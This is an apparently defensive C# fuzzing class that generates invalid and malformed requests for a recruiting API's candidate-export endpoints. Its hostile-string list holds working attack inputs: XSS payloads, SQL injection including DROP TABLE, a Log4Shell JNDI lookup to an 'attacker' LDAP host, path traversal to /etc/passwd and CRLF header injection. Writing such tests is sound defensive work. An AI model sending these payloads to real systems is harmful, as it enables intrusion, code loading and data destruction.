using System.Text;
using System.Text.Json.Nodes;

namespace HireHub.Tests.Api.Fuzzing;

/// <summary>
/// Requests that no API endpoint may accept: each carries at least one defect (malformed, oversized, wrongly typed,
/// invalid or missing value, control character, invalid UTF-8 or UTF-16, deep nesting, duplicate key, wrong content
/// type, missing key), and most also carry hostile text (markup, SQL, template and path fragments) in other fields,
/// so hostile text is seen everywhere the parser and validator look. Seeded: a failure names its case, which
/// reproduces with the same seed.
/// </summary>
public sealed class HostilePayloads(int seed)
{
    public const int SingleBodyLimit = 64 * 1024;

    private static readonly string[] Hostile =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "'; DROP TABLE \"ExportedCandidates\"; --",
        "' OR '1'='1", "1; SELECT * FROM People --", "{{7*7}}", "${jndi:ldap://attacker/x}", "../../../../etc/passwd", "%00%0d%0a",
        "\u202egnp.exe", "Zero\u200bWidth", "😀👩‍💻", "Robert'); DELETE FROM Workers;--", "<svg/onload=alert(1)>", "\\u0000",
    ];

    private static readonly string[] Fields = ["candidateId", "firstName", "middleName", "lastName", "email", "phone", "startDate", "jobTitle", "location", "hrisProvider"];
    private static readonly string[] Required = ["candidateId", "firstName", "lastName", "email", "startDate"];
    private static readonly string[] ControlText = ["Nul\u0000Byte", "Bell\u0007", "Esc\u001b[31mRed", "Line\r\nX-Injected: yes", "Tab\tand\u000bVT", "Del\u007f", "C1\u0085\u009b"];
    private static readonly string[] WrongTypes = ["42", "-1.5e308", "1e400", "123456789012345678901234567890", "true", "[]", "{}", "[1,\"a\",null]", "{\"$ref\":\"#\"}", "-0"];
    private static readonly string[] WrongContentTypes = ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/html", "application/octet-stream"];

    private readonly Random random = new(seed);

    public HostileRequest Next(BodyShape shape, bool needsKey) => shape switch
    {
        BodyShape.Export => ForExport(needsKey),
        BodyShape.Batch => ForBatch(needsKey),
        _ => Malformed(Encoding.UTF8.GetBytes(Valid().ToJsonString()), needsKey),
    };

    private HostileRequest ForExport(bool needsKey)
    {
        var kind = random.Next(needsKey ? 11 : 9);
        if (kind <= 5)
        {
            var (defect, json) = DefectiveItem(kind);
            return new(defect, json, "application/json", Key(needsKey));
        }

        return kind switch
        {
            6 => Malformed(Encoding.UTF8.GetBytes(Valid().ToJsonString()), needsKey),
            7 => new("oversized body", Oversized(SingleBodyLimit + 1 + random.Next(4096)), "application/json", Key(needsKey)),
            8 => new("wrong content type", Encoding.UTF8.GetBytes(Valid().ToJsonString()), Pick(WrongContentTypes.Append(null).ToArray()), Key(needsKey)),
            9 => new("no idempotency key", Encoding.UTF8.GetBytes(Valid().ToJsonString()), "application/json", null),
            _ => new("invalid idempotency key", Encoding.UTF8.GetBytes(Valid().ToJsonString()), "application/json", Pick(["", new string('k', 256), "émoji-😀", "a\u007fb"])),
        };
    }

    private HostileRequest ForBatch(bool needsKey)
    {
        var kind = random.Next(5);
        if (kind == 0)
        {
            return Malformed(Encoding.UTF8.GetBytes(new JsonObject { ["items"] = new JsonArray(Valid()) }.ToJsonString()), needsKey);
        }

        if (kind == 1)
        {
            var (defect, items) = Pick<(string, string)>([
                ("batch without items", "{}"), ("batch with empty items", "{\"items\":[]}"), ("batch items null", "{\"items\":null}"),
                ("batch items not a list", "{\"items\":" + Pick(WrongTypes.Where(t => t != "[]" && !t.StartsWith('[')).ToArray()) + "}"),
                ("batch over 1,000 items", "{\"items\":[" + string.Join(',', Enumerable.Repeat("{}", 1001)) + "]}"),
                ("batch of nulls", "{\"items\":[null,null,null]}"),
            ]);
            return new(defect, Encoding.UTF8.GetBytes(items), "application/json", Key(needsKey));
        }

        // Every item defective, so the batch as a whole stores nothing.
        var parts = Enumerable.Range(0, 1 + random.Next(4)).Select(_ => DefectiveItem(random.Next(6))).ToList();
        var body = "{\"items\":[" + string.Join(',', parts.Select(p => Encoding.UTF8.GetString(p.Json))) + "]}";
        var bytes = parts.Any(p => p.Defect == "invalid UTF-8") ? Join(parts.Select(p => p.Json)) : Encoding.UTF8.GetBytes(body);
        return new("batch: " + string.Join(", ", parts.Select(p => p.Defect)), bytes, "application/json", Key(needsKey));
    }

    /// <summary>One export object with a defect of kind 0 to 5.</summary>
    private (string Defect, byte[] Json) DefectiveItem(int kind)
    {
        var body = Valid();
        Sprinkle(body);
        var field = Pick(Fields);
        switch (kind)
        {
            case 0:
                if (random.Next(4) == 0)
                {
                    // An object is the right type for the recruiter: give it anything else.
                    var notObject = Pick(WrongTypes.Where(t => !t.StartsWith('{')).Append("\"Lisa Taylor\"").ToArray());
                    return ($"wrong type {notObject} in recruiter", Encoding.UTF8.GetBytes(Replace(body, "recruiter", notObject)));
                }

                var type = random.Next(3) == 0 ? Nested(1 + random.Next(3000)) : Pick(WrongTypes);
                return ($"wrong type {type[..Math.Min(type.Length, 12)]} in {field}", Encoding.UTF8.GetBytes(Replace(body, field, type)));
            case 1:
                var missing = Pick(Required);
                switch (random.Next(4))
                {
                    case 0: body.Remove(missing); break;
                    case 1: body[missing] = null; break;
                    case 2: body[missing] = "   "; break;
                    default: body[missing] = ""; break;
                }

                return ($"{missing} missing", Bytes(body));
            case 2:
                var hostileIn = Pick(["email", "startDate", "phone", "recruiterEmail"]);
                if (hostileIn == "recruiterEmail")
                {
                    body["recruiter"] = new JsonObject { ["name"] = Pick(Hostile), ["email"] = Pick(Hostile) };
                }
                else
                {
                    body[hostileIn] = Pick(Hostile) + (hostileIn == "phone" ? "x" : "");
                }

                return ($"hostile {hostileIn}", Bytes(body));
            case 3:
                body[field] = new string(Pick(['a', 'é', '<', '\'']), 255 + random.Next(8_000));
                return ($"{field} too long", Bytes(body));
            case 4:
                var textField = Pick(["candidateId", "firstName", "middleName", "lastName", "jobTitle", "location", "hrisProvider"]);
                if (random.Next(3) == 0)
                {
                    return ($"lone surrogate in {textField}", Encoding.UTF8.GetBytes(Replace(body, textField, Pick(["\"\\ud800\"", "\"a\\udfffb\"", "\"\\ud83d\""]))));
                }

                body[textField] = Pick(ControlText);
                return ($"control character in {textField}", Bytes(body));
            default:
                if (random.Next(2) == 0)
                {
                    var json = Bytes(body);
                    var quote = Array.IndexOf(json, (byte)':') + 2;
                    return ("invalid UTF-8", [.. json[..quote], .. Pick<byte[]>([[0xFF], [0xC3, 0x28], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80]]), .. json[quote..]]);
                }

                var text = body.ToJsonString();
                return ("duplicate key", Encoding.UTF8.GetBytes(text[..^1] + $",\"{Pick(Required)}\":\"second\"}}"));
        }
    }

    private HostileRequest Malformed(byte[] valid, bool needsKey)
    {
        var text = Encoding.UTF8.GetString(valid);
        var (defect, body) = random.Next(12) switch
        {
            0 => ("truncated", text[..random.Next(text.Length - 1)]),
            1 => ("empty body", ""),
            2 => ("whitespace body", " \r\n\t "),
            3 => ("top-level " + Pick(["null", "[]", "42", "\"text\"", "true"]), Pick(["null", "[]", "42", "\"text\"", "true"])),
            4 => ("single quotes", text.Replace('"', '\'')),
            5 => ("trailing comma", text[..^1] + ",}"),
            6 => ("comment", "/* hi */" + text),
            7 => ("NaN literal", text[..^1] + ",\"firstName\":NaN}"),
            8 => ("deep nesting", Nested(65 + random.Next(100_000))),
            9 => ("garbage after object", text + Pick(["}", "]]", "x", "{\"a\":1}"])),
            10 => ("unquoted names", "{candidateId: 1}"),
            _ => ("random characters", new string(Enumerable.Range(0, 1 + random.Next(200)).Select(_ => (char)random.Next(32, 0x2FF)).ToArray())),
        };
        return new("malformed: " + defect, Encoding.UTF8.GetBytes(body), "application/json", Key(needsKey));
    }

    private JsonObject Valid() => ApiCalls.Candidate($"FUZZ-{random.Next():x8}");

    /// <summary>Hostile but well-formed text in up to three fields: stored as plain text if the request were valid, which it is not.</summary>
    private void Sprinkle(JsonObject body)
    {
        for (var i = random.Next(4); i > 0; i--)
        {
            body[Pick(["firstName", "middleName", "lastName", "jobTitle", "location", "hrisProvider", "candidateId"])] = Pick(Hostile);
        }
    }

    private string Nested(int depth) => random.Next(2) == 0
        ? new string('[', depth) + new string(']', depth)
        : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);

    private byte[] Oversized(int size) => Encoding.UTF8.GetBytes("{\"candidateId\":\"" + new string('x', size) + "\"}");

    private string? Key(bool needsKey) => needsKey ? $"fuzz-{random.Next():x8}-{random.Next():x8}" : null;

    private T Pick<T>(T[] values) => values[random.Next(values.Length)];

    private static string Replace(JsonObject body, string field, string rawJson)
    {
        body[field] = "__RAW__";
        return body.ToJsonString().Replace("\"__RAW__\"", rawJson, StringComparison.Ordinal);
    }

    private static byte[] Bytes(JsonObject body) => Encoding.UTF8.GetBytes(body.ToJsonString());

    private static byte[] Join(IEnumerable<byte[]> items)
    {
        var list = items.ToList();
        var result = new List<byte>(Encoding.UTF8.GetBytes("{\"items\":["));
        for (var i = 0; i < list.Count; i++)
        {
            if (i > 0)
            {
                result.Add((byte)',');
            }

            result.AddRange(list[i]);
        }

        result.AddRange(Encoding.UTF8.GetBytes("]}"));
        return [.. result];
    }
}
